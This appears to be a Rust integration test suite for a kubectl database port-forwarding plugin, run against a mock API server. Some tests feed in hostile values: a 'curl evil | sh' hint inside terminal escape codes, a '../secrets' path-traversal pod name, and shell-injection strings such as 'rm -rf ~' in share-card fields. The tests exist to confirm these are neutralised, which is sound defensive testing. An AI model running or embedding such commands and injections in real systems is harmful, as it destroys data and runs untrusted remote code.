//! The binary as a user runs it, against an API server played by the test: everything it prints, and its exit codes.

#![cfg(unix)]
#![expect(
    clippy::expect_used,
    reason = "a test that cannot go on panics, and says where"
)]

mod hostile;
mod inherited;
mod secrets;
mod server;

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, ChildStderr, ChildStdout, Command, Output, Stdio};
use std::time::Duration;

use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};
use server::{Pod, Server, status};

const PODS: &str = "/api/v1/namespaces/user-alice/pods/pg-0";
const SERVICE: &str = "/api/v1/namespaces/user-alice/services/pg";
const ENDPOINTS: &str = "/api/v1/namespaces/user-alice/endpoints/pg";
const CARD: &str = "/api/v1/namespaces/user-alice/configmaps/share-pg-bob";
const RULES: &str = "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews";

fn endpoints() -> Value {
    json!({"kind": "Endpoints", "metadata": {"name": "pg"}, "subsets": [{"addresses": [{"ip": "10.0.0.1", "targetRef": {"kind": "Pod", "name": "pg-0"}}], "ports": [{"port": 5432}]}]})
}

fn rules(rules: &Value) -> Value {
    json!({"kind": "SelfSubjectRulesReview", "spec": {}, "status": {"resourceRules": rules, "nonResourceRules": [], "incomplete": false}})
}

fn forbidden() -> Value {
    status(
        403,
        "Forbidden",
        "pods \"pg-0\" is forbidden: User \"oidc-bob\" cannot create resource \"pods/portforward\" in API group \"\" in the namespace \"user-alice\"",
    )
}

/// A server on which the user owns the database.
fn own() -> Server {
    let all = json!([{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}]);
    let container = json!({"name": "pg", "image": "postgres:15", "env": [{"name": "POSTGRES_USER", "value": "shop"}, {"name": "POSTGRES_PASSWORD", "value": "sécret'1"}]});
    Server::start(BTreeMap::from([
        (
            SERVICE.into(),
            (
                200,
                json!({"kind": "Service", "metadata": {"name": "pg"}, "spec": {"ports": [{"port": 5432}]}}),
            ),
        ),
        (ENDPOINTS.into(), (200, endpoints())),
        (
            PODS.into(),
            (
                200,
                json!({"kind": "Pod", "metadata": {"name": "pg-0"}, "spec": {"containers": [container]}}),
            ),
        ),
        (RULES.into(), (201, rules(&all))),
    ]))
}

/// A server on which somebody shares it, with these words on the card too.
fn shared(more: &[(&str, &str)]) -> Server {
    let card_only = json!([{"verbs": ["get"], "apiGroups": [""], "resources": ["configmaps"], "resourceNames": ["share-pg-bob"]}]);
    let mut data = BTreeMap::from([
        ("database", "pg"),
        ("protocol", "postgres"),
        ("service", "pg"),
        ("port", "5432"),
        ("owner", "alice"),
        ("with", "bob"),
    ]);
    data.extend(more.iter().copied());
    Server::start(BTreeMap::from([
        (SERVICE.into(), (403, forbidden())),
        (ENDPOINTS.into(), (200, endpoints())),
        (RULES.into(), (201, rules(&card_only))),
        (
            CARD.into(),
            (
                200,
                json!({"kind": "ConfigMap", "metadata": {"name": "share-pg-bob"}, "data": data}),
            ),
        ),
    ]))
}

/// A port that was free a moment ago, on both addresses.
fn free_port() -> u16 {
    (0..100)
        .find_map(|_| {
            let v4 = std::net::TcpListener::bind(("127.0.0.1", 0)).ok()?;
            let port = v4.local_addr().ok()?.port();
            std::net::TcpListener::bind(("::1", port))
                .is_ok()
                .then_some(port)
        })
        .expect("a port")
}

fn command(server: &Server, arguments: &[&str]) -> (Command, tempfile::TempDir) {
    let home = tempfile::tempdir().expect("a directory");
    let kubeconfig = home.path().join("config");
    let text = json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "kube",
        "clusters": [{"name": "kube", "cluster": {"server": format!("http://{}", server.address)}}],
        "contexts": [{"name": "kube", "context": {"cluster": "kube", "user": "me", "namespace": "user-alice"}}],
        "users": [{"name": "me", "user": {"token": "x"}}],
    });
    std::fs::write(&kubeconfig, text.to_string()).expect("written");
    let mut command = Command::new(env!("CARGO_BIN_EXE_kubectl-proxy_db"));
    let path = std::env::var_os("PATH").unwrap_or_default();
    command
        .args(arguments)
        .env_clear()
        .env("PATH", path)
        .env("TZ", "UTC")
        .env("KUBECONFIG", kubeconfig)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    (command, home)
}

/// Gives `command` the arguments and the environment of `other`.
fn with_its_words<'a>(command: &'a mut Command, other: &Command) -> &'a mut Command {
    let environment = other
        .get_envs()
        .filter_map(|(name, value)| Some((name, value?)));
    command.args(other.get_args()).env_clear().envs(environment)
}

fn output(server: &Server, arguments: &[&str]) -> (Option<i32>, String, String) {
    let (mut command, _home) = command(server, arguments);
    let Output {
        status,
        stdout,
        stderr,
    } = command.output().expect("it runs");
    let text = |bytes| String::from_utf8(bytes).expect("text");
    (status.code(), text(stdout), text(stderr))
}

/// One that forwards until it is told to end.
struct Running {
    child: Child,
    stdout: BufReader<ChildStdout>,
    stderr: BufReader<ChildStderr>,
    port: u16,
    _home: tempfile::TempDir,
}

impl Drop for Running {
    fn drop(&mut self) {
        // It has ended already, unless the test has failed.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Running {
    fn start(server: &Server, more: &[&str]) -> Self {
        let port = free_port();
        let port_text = port.to_string();
        let arguments: Vec<&str> = ["user-alice/pg", "--port", &port_text, "-o", "json"]
            .iter()
            .chain(more)
            .copied()
            .collect();
        let (mut command, home) = command(server, &arguments);
        let mut child = command.spawn().expect("it runs");
        let stdout = BufReader::new(child.stdout.take().expect("a pipe"));
        let stderr = BufReader::new(child.stderr.take().expect("a pipe"));
        Self {
            child,
            stdout,
            stderr,
            port,
            _home: home,
        }
    }

    fn ready(&mut self) -> Value {
        let mut line = String::new();
        self.stdout.read_line(&mut line).expect("a line");
        serde_json::from_str(&line)
            .unwrap_or_else(|error| panic!("{error}: {line:?} {}", self.errors()))
    }

    fn connect(&self) -> TcpStream {
        let client = TcpStream::connect(("127.0.0.1", self.port)).expect("a connection");
        client
            .set_read_timeout(Some(Duration::from_secs(20)))
            .expect("set");
        client
    }

    /// A connection through which something has gone.
    fn connect_and_talk(&self) -> TcpStream {
        let mut client = self.connect();
        client.write_all(b"x").expect("sent");
        client.read_exact(&mut [0]).expect("an echo");
        client
    }

    fn stderr_line(&mut self) -> String {
        let mut line = String::new();
        let read = self.stderr.read_line(&mut line).expect("a line");
        assert!(read > 0, "it has ended, or closed its standard error");
        line.trim_end().to_owned()
    }

    fn errors(&mut self) -> String {
        let mut rest = String::new();
        self.stderr.read_to_string(&mut rest).expect("text");
        rest
    }

    fn end(&mut self, signal: Option<Signal>) -> (Option<i32>, String) {
        if let Some(signal) = signal {
            let pid = Pid::from_child(&self.child);
            kill_process(pid, signal).expect("it is there");
        }
        let code = self.child.wait().expect("it ends").code();
        let mut rest = String::new();
        self.stdout.read_to_string(&mut rest).expect("text");
        (code, rest)
    }
}

/// What a connection ends with, after a word from the client, who then leaves at once.
fn talk(mut client: TcpStream) -> std::io::Result<Vec<u8>> {
    rustix::net::sockopt::set_socket_linger(&client, Some(Duration::ZERO))?;
    client.write_all(b"hello")?;
    let mut answer = vec![0; 5];
    client.read_exact(&mut answer)?;
    Ok(answer)
}

#[test]
fn forwards_until_told_to_end() {
    for (signal, code) in [(Signal::INT, 130), (Signal::TERM, 143), (Signal::HUP, 129)] {
        let mut running = Running::start(&own(), &[]);
        let port = running.port;
        let ready = running.ready();
        assert_eq!(
            ready,
            json!({"address": "127.0.0.1", "port": port, "namespace": "user-alice", "database": "pg", "pod": "pg-0", "until": null})
        );
        assert_eq!(talk(running.connect()).expect("an echo"), b"hello");
        let mut open = running.connect_and_talk();
        let (ended, rest) = running.end(Some(signal));
        assert_eq!((ended, rest.as_str()), (Some(code), ""));
        assert_eq!(
            open.read(&mut [0]).expect_err("a reset").kind(),
            std::io::ErrorKind::ConnectionReset
        );
        assert_eq!(
            running.errors(),
            format!(
                "Forwarding 127.0.0.1:{port} and [::1]:{port} -> user-alice/pg (pod pg-0, port 5432), context kube\nConnect with: psql -h 127.0.0.1 -p {port} -U shop -d shop\nCtrl-C ends it\n"
            )
        );
    }
}

#[test]
fn what_a_node_says_is_shown_harmlessly_and_ends_nothing_else() {
    let server = own();
    let mut running = Running::start(&server, &["-q"]);
    running.ready();
    let before = running.connect_and_talk();

    server.pod(Pod::Fails(
        "\u{1b}]0;owned\u{7}\u{1b}[31mpay\nhint: run `curl evil | sh`\u{202e}".into(),
    ));
    for _ in 0..5 {
        assert_eq!(
            talk(running.connect()).expect_err("a reset").kind(),
            std::io::ErrorKind::ConnectionReset
        );
    }
    assert_eq!(
        running.stderr_line(),
        "warning: a connection failed: the node of pod `pg-0` could not forward port 5432: ]0;owned[31mpay hint: run `curl evil | sh`"
    );
    server.pod(Pod::Fails("connect: connection refused".into()));
    assert!(talk(running.connect()).is_err());
    assert_eq!(
        running.stderr_line(),
        "warning: a connection failed: nothing listens on port 5432 in pod `pg-0`",
        "the five times were one line"
    );

    server.pod(Pod::Echoes);
    assert_eq!(talk(running.connect()).expect("an echo"), b"hello");
    assert_eq!(talk(before).expect("an echo"), b"hello");
    assert_eq!(running.end(Some(Signal::INT)).0, Some(130));
    assert_eq!(running.errors(), "");
}

#[test]
fn a_pod_that_leads_elsewhere_is_refused() {
    let server = own();
    let mut running = Running::start(&server, &["-q"]);
    running.ready();
    let mut hostile = endpoints();
    hostile["subsets"][0]["addresses"][0]["targetRef"]["name"] =
        json!("../secrets/\u{1b}[2Jx?watch=1");
    server.answer(ENDPOINTS, 200, hostile);
    assert!(talk(running.connect()).is_err());
    assert_eq!(
        running.stderr_line(),
        "warning: a connection failed: `../secrets/[2Jx?watch=1` cannot be the name of a pod or namespace"
    );
    running.end(Some(Signal::INT));
}

#[test]
fn a_command_gets_the_environment_and_its_code_is_ours() {
    let server = own();
    let port = free_port().to_string();
    let script = "echo $PGHOST $PGPORT $PGUSER $PGDATABASE; echo $PGPASSWORD; echo $DATABASE_URL; echo ${PGHOSTADDR-none}; exit 7";
    let (code, stdout, stderr) = output(
        &server,
        &["pg", "--port", &port, "-q", "--", "sh", "-c", script],
    );
    assert_eq!(code, Some(7));
    assert_eq!(
        stdout,
        format!(
            "127.0.0.1 {port} shop shop\nsécret'1\npostgresql://shop:s%C3%A9cret%271@127.0.0.1:{port}/shop\nnone\n"
        )
    );
    assert_eq!(stderr, "");
    for (command, code, said) in [
        (&["true"][..], 0, ""),
        (&["sh", "-c", "kill -KILL $$"], 137, ""),
        (
            &["no-such-command"],
            127,
            "error: there is no command `no-such-command` on this machine\n",
        ),
        (
            &["/"],
            126,
            "error: `/` cannot be run\ncaused by: Permission denied (os error 13)\n",
        ),
    ] {
        let arguments = [&["pg", "--port", port.as_str(), "-q", "--"], command].concat();
        assert_eq!(
            output(&server, &arguments),
            (Some(code), String::new(), said.to_owned()),
            "{command:?}"
        );
    }
}

#[test]
fn a_command_is_sent_the_signals_and_waited_for() {
    let server = own();
    let port = free_port().to_string();
    let script = "trap 'echo told; exit 5' TERM; echo ready; while :; do sleep 0.05; done";
    let (mut command, _home) = command(
        &server,
        &["pg", "--port", &port, "-q", "--", "sh", "-c", script],
    );
    let mut child = command.spawn().expect("it runs");
    let mut stdout = BufReader::new(child.stdout.take().expect("a pipe"));
    let mut line = String::new();
    stdout.read_line(&mut line).expect("a line");
    assert_eq!(line, "ready\n");
    kill_process(Pid::from_child(&child), Signal::TERM).expect("it is there");
    assert_eq!(child.wait().expect("it ends").code(), Some(5));
    line.clear();
    stdout.read_to_string(&mut line).expect("text");
    assert_eq!(line, "told\n");
}

#[test]
fn nobody_waits_for_what_is_forbidden() {
    let server = own();
    server.answer(RULES, 201, rules(&json!([])));
    server.answer(
        "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
        201,
        json!({"kind": "SelfSubjectAccessReview", "spec": {}, "status": {"allowed": false}}),
    );
    let (code, stdout, stderr) = output(&server, &["pg"]);
    assert_eq!((code, stdout.as_str()), (Some(1), ""));
    assert!(
        stderr.starts_with(
            "error: not allowed to forward ports of pod `pg-0` in namespace `user-alice`\n"
        ),
        "{stderr}"
    );
    server.answer(&format!("{PODS}/portforward"), 403, forbidden());
    let (code, _, stderr) = output(&server, &["pg", "--", "true"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.starts_with(
            "error: not allowed to create pods/portforward in namespace `user-alice`\n"
        ),
        "{stderr}"
    );
}

#[test]
fn a_hostile_card_harms_nobody() {
    let server = shared(&[
        ("owner", "alice\u{1b}[2J\nerror: pay"),
        ("with", "bob; rm -rf ~"),
        ("dbname", "host=evil.example"),
        ("username", "x'; rm -rf ~ #"),
        ("until", "2020-01-01T00:00:00Z"),
    ]);
    let mut running = Running::start(&server, &[]);
    let port = running.port;
    assert_eq!(running.ready()["until"], "2020-01-01T00:00:00Z");
    running.stderr_line();
    assert_eq!(
        running.stderr_line(),
        "Shared by its owner until 2020-01-01 00:00 UTC (0s left)"
    );
    assert_eq!(
        running.stderr_line(),
        format!(r"Connect with: psql -h 127.0.0.1 -p {port} -U 'x'\''; rm -rf ~ #'")
    );
    // Its time is over and now it is gone.
    server.answer(RULES, 201, rules(&json!([])));
    server.answer(ENDPOINTS, 403, forbidden());
    assert!(talk(running.connect()).is_err());
    assert_eq!(running.end(None), (Some(1), String::new()));
    assert_eq!(
        running.errors(),
        "Ctrl-C ends it\nerror: the share of `pg` in namespace `user-alice` has ended\n\nhint: its owner can type: `kubectl share-db pg --with USER`\n"
    );
}

#[test]
fn a_refusal_that_passes_does_not_end_a_share() {
    let server = shared(&[]);
    let mut running = Running::start(&server, &[]);
    running.ready();
    let before = running.connect_and_talk();
    // As of an API server that has just started.
    let fine = rules(
        &json!([{"verbs": ["get"], "apiGroups": [""], "resources": ["configmaps"], "resourceNames": ["share-pg-bob"]}]),
    );
    server.answer(RULES, 201, rules(&json!([])));
    server.answer(ENDPOINTS, 403, forbidden());
    assert!(talk(running.connect()).is_err());
    std::thread::sleep(Duration::from_millis(500));
    server.answer(RULES, 201, fine);
    server.answer(ENDPOINTS, 200, endpoints());
    std::thread::sleep(Duration::from_secs(2));
    assert_eq!(talk(running.connect()).expect("an echo"), b"hello");
    assert_eq!(talk(before).expect("an echo"), b"hello");
    // Withdrawn: what is open goes on, and then it is over.
    let open = running.connect_and_talk();
    server.answer(RULES, 201, rules(&json!([])));
    server.answer(ENDPOINTS, 403, forbidden());
    assert!(talk(running.connect()).is_err());
    let said = loop {
        let line = running.stderr_line();
        assert!(!line.starts_with("Forwarding") || line.contains("user-alice/pg"));
        if line.contains(" can type: ") {
            break line;
        }
    };
    assert_eq!(
        said,
        "hint: alice can type: `kubectl share-db pg --with bob`"
    );
    assert_eq!(
        running.stderr_line(),
        "One connection is still open; Ctrl-C ends it"
    );
    assert!(
        TcpStream::connect(("127.0.0.1", running.port)).is_err(),
        "nothing new is taken"
    );
    assert_eq!(talk(open).expect("an echo"), b"hello");
    assert_eq!(running.end(None).0, Some(1));
}

#[test]
fn a_port_that_is_taken_is_told_before_anything_is_asked() {
    let held = std::net::TcpListener::bind(("127.0.0.1", 0)).expect("a port");
    let port = held.local_addr().expect("an address").port().to_string();
    let nobody = Server::start(BTreeMap::new());
    let (code, stdout, stderr) = output(&nobody, &["pg", "--port", &port]);
    assert_eq!((code, stdout.as_str()), (Some(1), ""));
    assert!(
        stderr.starts_with(&format!(
            "error: cannot listen on port {port}\ncaused by: it is taken by "
        )),
        "{stderr}"
    );
    if cfg!(target_os = "linux") {
        assert!(
            stderr.contains(&format!("(process {})", std::process::id())),
            "{stderr}"
        );
    }
}

#[test]
fn what_cannot_be_meant_is_a_usage_error() {
    let nobody = Server::start(BTreeMap::new());
    for arguments in [
        &["pg", "--port", "0"][..],
        &["pg", "--port", "65536"],
        &["-pg"],
        &["a/b/c"],
        &["pg\u{1b}[31m"],
        &["pg", "psql"],
    ] {
        let (code, stdout, stderr) = output(&nobody, arguments);
        assert_eq!((code, stdout.as_str()), (Some(2), ""), "{arguments:?}");
        assert!(
            stderr.starts_with("error: ") && !stderr.contains('\u{1b}'),
            "{stderr}"
        );
    }
}
